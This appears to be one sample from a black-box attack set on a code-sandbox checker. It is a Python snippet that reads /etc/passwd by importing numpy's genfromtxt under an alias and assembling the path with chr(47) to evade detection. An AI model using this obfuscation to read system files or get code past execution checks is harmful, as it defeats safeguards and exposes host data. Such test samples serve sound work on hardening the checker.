# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 6 file I/O imported under an alias
# source: own; alias family
# family: numpy genfromtxt imported under an alias
# goal: read /etc/passwd
import json
from numpy import genfromtxt as gft
rows = gft(chr(47) + 'etc' + chr(47) + 'passwd', dtype=str, delimiter="\n")
print(json.dumps({"evidence": [str(r) for r in rows[:2]]}))
